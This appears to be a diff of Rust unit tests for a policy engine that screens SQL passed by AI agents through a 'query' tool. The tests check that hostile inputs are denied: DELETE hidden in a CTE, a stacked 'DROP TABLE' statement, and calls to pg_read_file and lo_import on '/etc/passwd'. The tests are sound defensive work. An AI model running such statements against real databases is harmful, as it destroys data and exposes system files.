+            &StatementClass::parse("drop  table").unwrap(),
+            &StatementKind::Drop(ObjectType::Index)
+        ));
+        assert!(class_matches(
+            &StatementClass::parse("create role").unwrap(),
+            &StatementKind::Create(ObjectType::User)
+        ));
+        assert!(class_matches(
+            &StatementClass::Copy,
+            &StatementKind::CopyFrom
+        ));
+        assert!(StatementClass::parse("drop tables").is_none());
+        for (n, c) in StatementClass::SIMPLE {
+            assert_eq!(StatementClass::parse(n), Some(c.clone()));
+            assert_eq!(c.as_string(), n);
+        }
+    }
+
+    fn query(p: &Policy, roles: &[&str], args: Value) -> Decision {
+        call_on(p, roles, "query", args)
+    }
+
+    fn call_on(p: &Policy, roles: &[&str], name: &str, args: Value) -> Decision {
+        let roles: Vec<String> = roles.iter().map(|s| s.to_string()).collect();
+        evaluate(
+            p,
+            &roles,
+            "tools",
+            &Request::ToolCall {
+                name,
+                arguments: &args,
+            },
+        )
+    }
+
+    #[test]
+    fn agent_sql_through_a_tool_argument() {
+        let p = sql_policy();
+        let a = &["analyst"];
+        let d = query(
+            &p,
+            a,
+            json!({"sql": "SELECT id, total FROM orders WHERE id = 7"}),
+        );
+        assert_eq!(verdict(&d), (Effect::Allow, Some("agent-sql")));
+        // DELETE: refused, naming the rule that stopped it and the statement.
+        let d = query(&p, a, json!({"sql": "DELETE FROM orders"}));
+        assert_eq!(verdict(&d), (Effect::Deny, Some("agent-sql")));
+        assert!(d.reason.contains("DELETE FROM orders"), "{}", d.reason);
+        assert!(d.reason.contains("delete"), "{}", d.reason);
+        // A CTE hiding a DELETE is a delete.
+        let d = query(
+            &p,
+            a,
+            json!({"sql": "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d"}),
+        );
+        assert_eq!(d.effect, Effect::Deny);
+        // Another table; a hidden second statement.
+        assert!(!query(&p, a, json!({"sql": "SELECT * FROM customers"})).allowed());
+        let d = query(&p, a, json!({"sql": "SELECT 1; DROP TABLE orders"}));
+        assert_eq!(d.effect, Effect::Deny);
+        assert!(d.reason.contains("DROP TABLE orders"), "{}", d.reason);
+        // A dangerous function: denied by the functions deny rule.
+        let d = query(&p, a, json!({"sql": "SELECT pg_read_file('/etc/passwd')"}));
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
+        let d = query(
+            &p,
+            a,
+            json!({"sql": "SELECT pg_catalog.pg_read_file('/etc/passwd')"}),
+        );
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
+        // Unparsable, missing, not a string: denied with a clear reason.
+        let d = query(&p, a, json!({"sql": "SELEC * FROM orders"}));
+        assert_eq!(verdict(&d), (Effect::Deny, None));
+        assert!(
+            d.reason
+                .contains("the SQL in argument `sql` could not be parsed"),
+            "{}",
+            d.reason
+        );
+        let d = query(&p, a, json!({}));
+        assert!(d.reason.contains("`sql` is missing"), "{}", d.reason);
+        let d = query(&p, a, json!({"sql": 42}));
+        assert!(d.reason.contains("not a string"), "{}", d.reason);
+        // Other roles: default deny; other tools are untouched by SQL.
+        assert!(!query(&p, &["dev"], json!({"sql": "SELECT * FROM orders"})).allowed());
+        assert!(call_on(&p, a, "k8s_get", json!({})).allowed());
+        // The trace covers each statement.
+        let mut seen = Vec::new();
+        let roles = vec!["analyst".to_string()];
+        let args = json!({"sql": "SELECT 1; SELECT * FROM orders"});
+        let d = evaluate_traced(
+            &p,
+            &roles,
+            "tools",
+            &Request::ToolCall {
+                name: "query",
+                arguments: &args,
+            },
+            &mut |t| seen.push(t),
+        );
+        assert!(d.allowed(), "{d:?}");
+        assert!(seen
+            .iter()
+            .any(|t| t.rule == "agent-sql" && t.matched && t.why.starts_with("statement 2: ")));
+    }
+
+    #[test]
+    fn plain_tool_rules_still_apply_to_sql_tools() {
+        let mut p = sql_policy();
+        p.rules.push(rule(
+            "admin-query",
+            Effect::Allow,
+            &["admin"],
+            Matcher::Mcp(tools(&["query"])),
+        ));
+        p.rules.push(rule(
+            "contractors",
+            Effect::Deny,
+            &["contractor"],
+            Matcher::Mcp(tools(&["*"])),
+        ));
+        let d = query(
+            &p,
+            &["admin"],
+            json!({"sql": "DELETE FROM orders WHERE id = 1"}),
+        );
+        assert_eq!(verdict(&d), (Effect::Allow, Some("admin-query")));
+        // …but the SQL must still parse, and deny rules still see it.
+        assert!(!query(&p, &["admin"], json!({"sql": "DELET"})).allowed());
+        let d = query(
+            &p,
+            &["admin"],
+            json!({"sql": "SELECT lo_import('/etc/passwd')"}),
+        );
+        assert_eq!(verdict(&d), (Effect::Deny, Some("no-file-reads")));
+        let d = query(
+            &p,
+            &["analyst", "contractor"],
+            json!({"sql": "SELECT * FROM orders"}),
+        );
+        assert_eq!(verdict(&d), (Effect::Deny, Some("contractors")));
+    }
+
+    #[test]
+    fn sql_tool_visibility() {
+        let p = sql_policy();
+        let analyst = vec!["analyst".to_string()];
+        // A deny with SQL conditions does not hide the tool.
+        assert!(visible(&p, &analyst, "tools", Item::Tool("query")));
+        assert!(!visible(
+            &p,
+            &["dev".to_string()],
+            "tools",
+            Item::Tool("query")
+        ));
     }
 }
